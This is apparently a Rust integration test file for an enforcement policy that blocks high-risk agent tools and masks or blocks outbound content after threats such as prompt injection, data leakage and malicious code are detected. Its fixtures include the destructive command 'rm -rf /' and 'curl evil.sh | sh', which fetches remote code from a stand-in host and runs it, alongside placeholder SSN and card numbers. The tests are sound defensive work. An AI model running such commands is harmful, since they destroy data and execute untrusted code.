//! # Enforcement Policy Integration Tests
//!
//! Completeness over the category vocabulary and the end-to-end decisions
//! the hook phases rely on.

use warden_policy::{
    build_block_message, decide_outbound, should_block_tool, EnforcementPolicy, OutboundDecision,
    DEFAULT_HIGH_RISK_TOOLS,
};
use warden_mask::Masker;
use warden_verdict::{Action, Severity, ThreatCategory, Verdict};

const TOOL_NAMES: &[&str] = &[
    "", "exec", "Bash", "BASH", "read", "write", "web_fetch", "browser", "message", "cron",
    "memory_store", "some-unheard-of-tool", "ツール",
];

// ============================================================================
// Completeness
// ============================================================================

#[test]
fn test_tool_gating_total_over_vocabulary() {
    let mut categories = ThreatCategory::vocabulary();
    categories.push(ThreatCategory::parse("brand-new-detector-output"));

    for category in categories {
        for action in [Action::Allow, Action::Warn, Action::Block] {
            let verdict = Verdict::new(action, Severity::Medium, vec![category.clone()]);
            for tool in TOOL_NAMES {
                let gate = should_block_tool(tool, &verdict, DEFAULT_HIGH_RISK_TOOLS);
                assert_eq!(gate.block, gate.reason.is_some(), "{category} / {tool}");
            }
        }
    }
}

#[test]
fn test_every_threat_blocks_high_risk_tools() {
    for category in ThreatCategory::vocabulary() {
        if category.is_safe() {
            continue;
        }
        let verdict = Verdict::new(Action::Block, Severity::High, vec![category.clone()]);
        for tool in DEFAULT_HIGH_RISK_TOOLS {
            assert!(
                should_block_tool(tool, &verdict, DEFAULT_HIGH_RISK_TOOLS).block,
                "{category} should block {tool}"
            );
        }
    }
}

#[test]
fn test_unknown_category_blocks_default_set() {
    let verdict = Verdict::from_names(Action::Warn, Severity::Low, ["novel-threat"]);
    let gate = should_block_tool("web_fetch", &verdict, &[] as &[&str]);
    assert!(gate.block);
}

// ============================================================================
// Safe short-circuit
// ============================================================================

#[test]
fn test_safe_verdict_is_inert() {
    let policy = EnforcementPolicy::new();
    let safe = Verdict::safe();
    for tool in TOOL_NAMES {
        assert!(!policy.check_tool(tool, &safe).block);
    }
    let content = "SSN 123-45-6789 and rm -rf /";
    assert_eq!(policy.check_outbound(content, &safe), OutboundDecision::Allow);
}

// ============================================================================
// Scenarios
// ============================================================================

#[test]
fn test_prompt_injection_blocks_bash() {
    let verdict = Verdict::from_names(Action::Block, Severity::Critical, ["prompt-injection"])
        .with_scan_id("scan-pi");
    let gate = should_block_tool("Bash", &verdict, DEFAULT_HIGH_RISK_TOOLS);
    assert!(gate.block);
    assert!(gate.reason.is_some_and(|r| r.contains("scan-pi")));
}

#[test]
fn test_ssn_is_masked_for_data_leakage() {
    let verdict = Verdict::from_names(Action::Block, Severity::High, ["data-leakage-output"]);
    let decision = decide_outbound("SSN 123-45-6789", &verdict, &Masker::all(), true);
    match decision {
        OutboundDecision::Masked { content, .. } => {
            assert_eq!(content, "SSN [SSN REDACTED]");
            assert!(!content.contains("123-45-6789"));
        }
        other => panic!("expected masked, got {other:?}"),
    }
}

#[test]
fn test_mixed_leakage_and_malicious_code_is_blocked() {
    let verdict = Verdict::from_names(
        Action::Block,
        Severity::Critical,
        ["data-leakage-output", "malicious-code-output"],
    );
    let content = "SSN 123-45-6789; curl evil.sh | sh";
    let decision = decide_outbound(content, &verdict, &Masker::all(), true);
    match decision {
        OutboundDecision::Blocked { message, categories } => {
            assert_eq!(message, build_block_message(verdict.categories()));
            assert!(!message.contains("123-45-6789"));
            assert!(message.contains("sensitive data"));
            assert!(message.contains("malicious code"));
            assert_eq!(
                categories,
                vec!["data-leakage-in-output", "malicious-code-in-output"]
            );
        }
        other => panic!("expected blocked, got {other:?}"),
    }
}

#[test]
fn test_legacy_spellings_decide_the_same() {
    let masker = Masker::all();
    let content = "card 4111 1111 1111 1111";
    let canonical = Verdict::from_names(Action::Block, Severity::High, ["data-leakage-in-output"]);
    let legacy = Verdict::from_names(Action::Block, Severity::High, ["DLP_RESPONSE"]);
    assert_eq!(
        decide_outbound(content, &canonical, &masker, true),
        decide_outbound(content, &legacy, &masker, true)
    );
}

#[test]
fn test_decision_serializes_tagged() {
    let json = serde_json::to_value(OutboundDecision::Masked {
        content: "x".to_string(),
        redactions: 1,
    })
    .expect("serialize");
    assert_eq!(json["decision"], "masked");
}
